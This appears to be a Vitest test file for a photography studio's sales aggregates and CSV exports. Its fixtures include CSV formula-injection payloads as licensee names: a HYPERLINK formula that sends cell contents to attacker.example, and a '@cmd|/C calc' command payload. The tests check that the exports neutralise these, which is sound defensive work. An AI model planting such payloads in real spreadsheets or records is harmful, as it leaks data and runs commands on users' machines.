/**
 * Studio → Sales against a real temporary SQLite database: the monthly sums, top works, sell-through
 * and items sold per work over a few hand-made orders; the CSV exports read back with csv-parse (the
 * same project's parser); formula injection neutralised; and who may download them.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { APIContext } from 'astro';
import { parse } from 'csv-parse/sync';
import * as ordersRoute from '~/pages/api/studio/sales/orders.csv';
import * as licencesRoute from '~/pages/api/studio/sales/licences.csv';
import { editionSales, itemsSoldByWork, licencesForExport, ordersForExport, salesOverview } from '~/lib/server/sales';
import { salesCountByWork } from '~/lib/server/studio';
import { EditionNumber, Licence, Order, OrderLine, Refund } from '~/lib/server/models';
import type { OrderStatus } from '~/lib/server/models/Order';
import type { LicenceTerms } from '~/lib/server/models/Licence';
import type { SessionUser } from '~/lib/server/auth-types';
import type { Role } from '~/lib/roles';
import { Edition, LicenceTier, Paper, PrintOffer, PrintSize, insertSettings, insertWork, useTempDatabase, type TestData } from '../_fixtures';

let data: TestData;
const person = (role: Role): SessionUser => ({ id: `u-${role}`, email: `${role}@sales.example`, name: role, role, emailVerified: true });

type Handler = (context: APIContext) => Promise<Response> | Response;
function get(handler: Handler, query = '', user: SessionUser | null = person('photographer')) {
  const url = new URL(`http://localhost/api/studio/sales/x.csv${query}`);
  return handler({ request: new Request(url), url, params: {}, locals: { user, session: null } } as unknown as APIContext);
}

const TERMS: LicenceTerms = {
  tierName: 'Editorial · Digital', use: 'editorial', terms: 'One online feature.', media: 'Web and apps', cap: 500000,
  capUnit: 'page views', territory: 'Worldwide', termMonths: 24,
};

/** Names that a spreadsheet would run as formulas (OWASP CSV Injection), and one that needs RFC 4180 quoting. */
const HOSTILE = {
  name: '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
  organisation: '+SUM(1+1)',
  use: '@cmd|/C calc',
  minus: '-2+3',
  tab: '\tTabbed',
  quoted: 'Harbour & Sons, "Editorial"\r\nSecond line',
};

let pear: number;
let fig: number;
let edition: Edition;
let offerLimited: PrintOffer;
let offerOpen: PrintOffer;

interface LineSpec { kind: 'licence' | 'print'; work: number; unit: number; qty?: number; refunded?: number; offer?: PrintOffer }

async function makeOrder(spec: {
  number: string; status: OrderStatus; createdAt: string; paidAt?: string; currency?: string; shipping?: number; email?: string;
  licensee?: { name: string; organisation: string | null; use: string | null }; lines: LineSpec[]; refunded?: number; shippingRefunded?: number;
}) {
  const subtotal = spec.lines.reduce((n, l) => n + l.unit * (l.qty ?? 1), 0);
  const shipping = spec.shipping ?? 0;
  const createdAt = new Date(spec.createdAt);
  const order = await Order.create({
    number: spec.number, userId: null, email: spec.email ?? 'buyer@sales.example', status: spec.status, currency: spec.currency ?? 'GBP',
    subtotal, shipping, taxIncluded: Math.round(((subtotal + shipping) * 2000) / 12000), total: subtotal + shipping,
    refunded: spec.refunded ?? 0, shippingRefunded: spec.shippingRefunded ?? 0,
    licenseeName: spec.licensee?.name ?? null, licenseeOrganisation: spec.licensee?.organisation ?? null, intendedUse: spec.licensee?.use ?? null,
    shippingAddress: null, stripeSessionId: `cs_test_${spec.number}`, stripePaymentIntentId: spec.paidAt ? `pi_test_${spec.number}` : null,
    paidAt: spec.paidAt ? new Date(spec.paidAt) : null, expiresAt: null, note: null, createdAt, updatedAt: createdAt,
  }, { silent: true });
  const lines: OrderLine[] = [];
  for (const l of spec.lines) {
    lines.push(await OrderLine.create({
      orderId: order.id, kind: l.kind, workId: l.work, licenceTierId: null, printOfferId: l.offer?.id ?? null, editionId: l.offer?.editionId ?? null,
      mode: l.kind === 'print' ? 'fill' : null, quantity: l.qty ?? 1, unitPrice: l.unit, subtotal: l.unit * (l.qty ?? 1),
      refunded: l.refunded ?? 0, description: l.kind === 'licence' ? 'Licence: Editorial · Digital' : 'Print: 16 × 20 in, Cotton',
      detail: '', snapshot: { workTitle: l.work === pear ? 'Pear' : 'Fig', workSlug: l.work === pear ? 'pear' : 'fig', terms: TERMS },
    }));
  }
  return { order, lines };
}

async function refund(order: Order, amount: number, settledAt: string, allocations: { lineId: number | null; amount: number; whole: boolean }[]) {
  await Refund.create({
    orderId: order.id, idempotencyKey: `key-${order.number}-${settledAt}`, stripeRefundId: null, amount, currency: order.currency,
    reason: 'The buyer asked for it', allocations, status: 'succeeded', requestedBy: null, settledAt: new Date(settledAt),
  });
}

async function licence(id: string, line: OrderLine, order: Order, issuedAt: string, extra: Partial<{ status: 'active' | 'revoked'; revokedAt: Date; revokedReason: string }> = {}) {
  await Licence.create({
    id, orderLineId: line.id, workId: line.workId, userId: null, licenseeName: order.licenseeName!, licenseeOrganisation: order.licenseeOrganisation,
    intendedUse: order.intendedUse, terms: TERMS, startsOn: issuedAt.slice(0, 10), endsOn: '2027-12-09', price: line.unitPrice, currency: order.currency,
    createdAt: new Date(issuedAt), updatedAt: new Date(issuedAt), ...extra,
  }, { silent: true });
}

beforeAll(async () => {
  data = await useTempDatabase();
  await insertSettings(); // GBP
  pear = (await insertWork('pear', 6000, 4000, { title: 'Pear' })).id;
  fig = (await insertWork('fig', 6000, 4000, { title: 'Fig' })).id;
  await LicenceTier.create({ slug: 'ed', name: 'Editorial · Digital', use: 'editorial', summary: '', terms: 'One online feature.', media: 'web', cap: 500000, capUnit: 'page views', territory: 'Worldwide', termMonths: 24, defaultPrice: 12000 });
  const size = await PrintSize.create({ slug: '16x20', label: '16 × 20 in', family: 'inch', unit: 'in', width: 16, height: 20, basePrice: 18000 });
  const paper = await Paper.create({ slug: 'cotton', name: 'Cotton', surface: 'matte', weightGsm: 310, surchargeBp: 0, description: '' });
  edition = await Edition.create({ workId: fig, printSizeId: size.id, kind: 'limited', total: 10, artistProofs: 1 });
  const openEdition = await Edition.create({ workId: pear, printSizeId: size.id, kind: 'open', total: null });
  offerLimited = await PrintOffer.create({ workId: fig, printSizeId: size.id, paperId: paper.id, editionId: edition.id, priceOverride: null });
  offerOpen = await PrintOffer.create({ workId: pear, printSizeId: size.id, paperId: paper.id, editionId: openEdition.id, priceOverride: null });

  // December 2025: a licence and two open prints of Pear, with shipping.
  const a = await makeOrder({
    number: 'SM-251210-AAAAAA', status: 'delivered', createdAt: '2025-12-10T09:00:00Z', paidAt: '2025-12-10T09:05:00Z', shipping: 900,
    licensee: { name: HOSTILE.name, organisation: HOSTILE.organisation, use: HOSTILE.use },
    lines: [{ kind: 'licence', work: pear, unit: 12000 }, { kind: 'print', work: pear, unit: 9000, qty: 2, offer: offerOpen }],
  });
  await licence('SML-TEST-A', a.lines[0]!, a.order, '2025-12-10T09:05:00Z');
  // 31 December 23:30 at UTC−02:00 is 1 January 01:30 UTC: January's. One limited print of Fig, two numbers sold.
  const b = await makeOrder({
    number: 'SM-251231-BBBBBB', status: 'shipped', createdAt: '2025-12-31T23:25:00-02:00', paidAt: '2025-12-31T23:30:00-02:00', shipping: 1800,
    lines: [{ kind: 'print', work: fig, unit: 15000, offer: offerLimited }],
  });
  for (const n of [1, 2]) {
    await EditionNumber.create({ editionId: edition.id, number: n, orderLineId: b.lines[0]!.id, state: 'sold', reservedUntil: null, certificateSerial: `SMC-B-${n}` });
  }
  // A held (unpaid) number does not count as sold.
  await EditionNumber.create({ editionId: edition.id, number: 3, orderLineId: b.lines[0]!.id, state: 'reserved', reservedUntil: new Date('2099-01-01T00:00:00Z'), certificateSerial: null });
  // January 2026: a licence paid, refunded whole in February, its licence revoked.
  const c = await makeOrder({
    number: 'SM-260115-CCCCCC', status: 'refunded', createdAt: '2026-01-15T10:00:00Z', paidAt: '2026-01-15T10:01:00Z', refunded: 45000,
    licensee: { name: HOSTILE.quoted, organisation: null, use: HOSTILE.minus }, email: 'desk@sales.example',
    lines: [{ kind: 'licence', work: pear, unit: 45000, refunded: 45000 }],
  });
  await licence('SML-TEST-C', c.lines[0]!, c.order, '2026-01-15T10:01:00Z', { status: 'revoked', revokedAt: new Date('2026-02-03T12:00:00Z'), revokedReason: `Refunded: ${HOSTILE.tab}` });
  await refund(c.order, 45000, '2026-02-03T12:00:00Z', [{ lineId: c.lines[0]!.id, amount: 45000, whole: true }]);
  // February 2026: a print of Fig, partly refunded (part of the line and the shipping).
  const f = await makeOrder({
    number: 'SM-260202-FFFFFF', status: 'partly_refunded', createdAt: '2026-02-02T10:00:00Z', paidAt: '2026-02-02T10:02:00Z', shipping: 900,
    refunded: 5900, shippingRefunded: 900, lines: [{ kind: 'print', work: fig, unit: 20000, refunded: 5000, offer: offerOpen }],
  });
  await refund(f.order, 5900, '2026-02-10T08:00:00Z', [{ lineId: f.lines[0]!.id, amount: 5000, whole: false }, { lineId: null, amount: 900, whole: true }]);
  // Not revenue: unpaid, expired, and an order in another currency.
  await makeOrder({ number: 'SM-260203-DDDDDD', status: 'pending_payment', createdAt: '2026-02-03T10:00:00Z', lines: [{ kind: 'licence', work: fig, unit: 9999 }] });
  await makeOrder({ number: 'SM-260110-EEEEEE', status: 'expired', createdAt: '2026-01-10T10:00:00Z', lines: [{ kind: 'licence', work: fig, unit: 7777 }] });
  await makeOrder({ number: 'SM-260120-GGGGGG', status: 'paid', currency: 'EUR', createdAt: '2026-01-20T10:00:00Z', paidAt: '2026-01-20T10:00:00Z', lines: [{ kind: 'licence', work: fig, unit: 30000 }] });
});
afterAll(async () => data.cleanup());

const NOW = new Date('2026-02-20T12:00:00Z');

describe('sales aggregates', () => {
  it('sums revenue by the month it was paid and refunds by the month they settled, empty months included', async () => {
    const s = await salesOverview(12, NOW);
    expect(s.currency).toBe('GBP');
    // Gregorian calendar: the twelve months ending February 2026 start in March 2025.
    expect(s.months.map((m) => m.month)).toEqual(['2025-03', '2025-04', '2025-05', '2025-06', '2025-07', '2025-08', '2025-09', '2025-10', '2025-11', '2025-12', '2026-01', '2026-02']);
    const by = Object.fromEntries(s.months.map((m) => [m.month, m]));
    expect(by['2025-11']).toMatchObject({ gross: 0, refunds: 0, orders: 0 });
    // Arithmetic over the fixture: 120.00 licence + 2 × 90.00 prints; shipping apart.
    expect(by['2025-12']).toMatchObject({ licences: 12000, prints: 18000, gross: 30000, shipping: 900, orders: 1 });
    // Paid 01:30 UTC on 1 January (ISO 8601 offset): January, with the refunded licence paid that month.
    expect(by['2026-01']).toMatchObject({ licences: 45000, prints: 15000, gross: 60000, refunds: 0, orders: 2 });
    // February: 200.00 print; refunds settled: 450.00 licence + 50.00 print (goods), 9.00 shipping apart.
    expect(by['2026-02']).toMatchObject({ prints: 20000, gross: 20000, refunds: 50000, shippingRefunds: 900, net: 20000 - 50000 });
    expect(s.headline).toMatchObject({
      thisMonth: 20000, thisMonthOrders: 1, last12Months: 110000, last12MonthsNet: 60000, periodGross: 110000, periodRefunds: 50000,
      periodOrders: 4, averageOrder: 27500, // 1,100.00 over 4 paid orders
    });
    expect(s.headline.refundRate).toBeCloseTo(50000 / 110000, 10);
    expect(s.otherCurrencyOrders).toBe(1); // the EUR order is counted apart, never summed with pounds
  });

  it('narrows the period without changing the twelve-month headline', async () => {
    const s = await salesOverview(3, NOW);
    expect(s.months.map((m) => m.month)).toEqual(['2025-12', '2026-01', '2026-02']);
    expect(s.headline.last12Months).toBe(110000);
    const one = await salesOverview(3, new Date('2026-04-02T00:00:00Z'));
    // February, March, April: February's sale and refunds only.
    expect(one.headline).toMatchObject({ periodGross: 20000, periodRefunds: 50000, periodOrders: 1, thisMonth: 0, thisMonthOrders: 0 });
  });

  it('ranks works by revenue with their counts', async () => {
    const s = await salesOverview(12, NOW);
    expect(s.topWorks).toEqual([
      // Pear: 120.00 + 180.00 + 450.00 = 750.00; its 450.00 licence refunded.
      { workId: pear, title: 'Pear', slug: 'pear', revenue: 75000, refunded: 45000, licences: 2, prints: 2 },
      // Fig: 150.00 + 200.00 = 350.00; 50.00 of a line refunded (the shipping is not a work's).
      { workId: fig, title: 'Fig', slug: 'fig', revenue: 35000, refunded: 5000, licences: 0, prints: 2 },
    ]);
  });

  it('counts sold numbers of each limited edition, held ones apart', async () => {
    const editions = await editionSales(NOW);
    expect(editions).toEqual([{ editionId: edition.id, workTitle: 'Fig', workSlug: 'fig', sizeLabel: '16 × 20 in', total: 10, artistProofs: 1, sold: 2, reserved: 1, ratio: 0.2 }]);
  });

  it('fills the Studio works table with items sold, leaving out what was refunded in full', async () => {
    const sold = await itemsSoldByWork();
    // Pear: licence + 2 prints of the December order (the January licence was refunded whole).
    // Fig: two prints (one partly refunded, still kept) and the euro order's licence: items, whatever the currency.
    expect(Object.fromEntries(sold)).toEqual({ [pear]: 3, [fig]: 3 });
    expect(await salesCountByWork()).toEqual(sold);
  });
});

describe('CSV exports', () => {
  it('writes every order as RFC 4180 CSV with a BOM, read back by csv-parse to the same rows', async () => {
    const res = await get(ordersRoute.GET);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present'); // RFC 4180 §3 (text/csv, header parameter)
    expect(res.headers.get('cache-control')).toBe('private, no-store');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="stillmark-orders-\d{4}-\d{2}-\d{2}\.csv"$/); // RFC 6266 §4
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]); // the UTF-8 byte order mark (Unicode §23.8)
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
    expect(text.split('\r\n').length).toBeGreaterThan(8); // RFC 4180 §2.1: records end with CRLF
    const records = parse(text, { bom: true, columns: true, skip_empty_lines: true }) as Record<string, string>[];
    const rows = await ordersForExport({});
    expect(records).toHaveLength(rows.length);
    expect(records.map((r) => r.order_number)).toEqual(rows.map((r) => r.number));
    expect(records.map((r) => r.order_number)).toEqual([
      'SM-251210-AAAAAA', 'SM-251231-BBBBBB', 'SM-260110-EEEEEE', 'SM-260115-CCCCCC', 'SM-260120-GGGGGG', 'SM-260202-FFFFFF', 'SM-260203-DDDDDD',
    ]);
    const a = records[0]!;
    expect(a).toMatchObject({
      created_at: '2025-12-10T09:00:00Z', paid_at: '2025-12-10T09:05:00Z', state: 'delivered', kind: 'both', lines: '2',
      items: '1 × Pear — Licence: Editorial · Digital; 2 × Pear — Print: 16 × 20 in, Cotton',
      subtotal: '300.00', shipping: '9.00', total: '309.00', refunded: '0.00', currency: 'GBP', payment_reference: 'pi_test_SM-251210-AAAAAA',
    });
    // The midnight order's time in UTC (ISO 8601), whatever offset it was made with.
    expect(records[1]!.created_at).toBe('2026-01-01T01:25:00Z');
    const pending = records.find((r) => r.order_number === 'SM-260203-DDDDDD')!;
    expect(pending).toMatchObject({ paid_at: '', state: 'pending_payment', payment_reference: 'cs_test_SM-260203-DDDDDD' });
  });

  it('takes a day range, to inclusive, and refuses days that do not exist', async () => {
    const res = await get(ordersRoute.GET, '?from=2026-01-01&to=2026-01-15');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="stillmark-orders-2026-01-01_to_2026-01-15.csv"');
    const records = parse(await res.text(), { bom: true, columns: true }) as Record<string, string>[];
    // 1 January 01:25 UTC, 10 and 15 January (the whole of the last day).
    expect(records.map((r) => r.order_number)).toEqual(['SM-251231-BBBBBB', 'SM-260110-EEEEEE', 'SM-260115-CCCCCC']);
    const bad = await get(ordersRoute.GET, '?from=2026-02-30');
    expect(bad.status).toBe(400);
    expect((await bad.json()).error).toMatchObject({ code: 'invalid_query', fields: { from: expect.any(String) } });
    const reversed = await get(licencesRoute.GET, '?from=2026-02-01&to=2026-01-01');
    expect(reversed.status).toBe(400);
    expect((await reversed.json()).error.fields).toHaveProperty('to');
  });

  it('writes the rights register with what each licence allows, and neutralises formulas', async () => {
    const res = await get(licencesRoute.GET);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="stillmark-licences-\d{4}-\d{2}-\d{2}\.csv"$/);
    const records = parse(await res.text(), { bom: true, columns: true }) as Record<string, string>[];
    expect(records).toHaveLength((await licencesForExport({})).length);
    const [a, c] = records;
    // TRADE-FACTS §7.2: licence ID, type, licensee, image, media, cap, territory, term, price and payment reference.
    expect(a).toMatchObject({
      licence_id: 'SML-TEST-A', status: 'active', revoked_at: '', work_id: String(pear), work_title: 'Pear', licence: 'Editorial · Digital',
      licensee_email: 'buyer@sales.example', use: 'editorial', media: 'Web and apps', cap: '500000', cap_unit: 'page views', territory: 'Worldwide',
      term_start: '2025-12-10', term_end: '2027-12-09', exclusivity: 'none', price: '120.00', currency: 'GBP',
      order_number: 'SM-251210-AAAAAA', payment_reference: 'pi_test_SM-251210-AAAAAA', issued_at: '2025-12-10T09:05:00Z',
    });
    // OWASP CSV Injection: a cell starting with = + - @ tab or CR gets a leading apostrophe.
    expect(a!.licensee_name).toBe(`'${HOSTILE.name}`);
    expect(a!.licensee_organisation).toBe(`'${HOSTILE.organisation}`);
    expect(a!.intended_use).toBe(`'${HOSTILE.use}`);
    expect(c!.intended_use).toBe(`'${HOSTILE.minus}`);
    expect(c).toMatchObject({ status: 'revoked', revoked_at: '2026-02-03T12:00:00Z' });
    expect(c!.revoked_reason).toBe(`Refunded: ${HOSTILE.tab}`); // a tab inside a cell is harmless
    // RFC 4180 §2.5–2.7: commas, quotes and line breaks survive quoting and read back unchanged.
    expect(c!.licensee_name).toBe(HOSTILE.quoted);
  });

  it('is for the Studio only: signed out 401, a buyer 403', async () => {
    for (const route of [ordersRoute.GET, licencesRoute.GET]) {
      expect((await get(route, '', null)).status).toBe(401);
      const buyer = await get(route, '', person('buyer'));
      expect(buyer.status).toBe(403);
      expect((await buyer.json()).error.code).toBe('forbidden');
      expect((await get(route, '', person('photographer'))).status).toBe(200);
      expect((await get(route, '', person('admin'))).status).toBe(200);
    }
  });
});
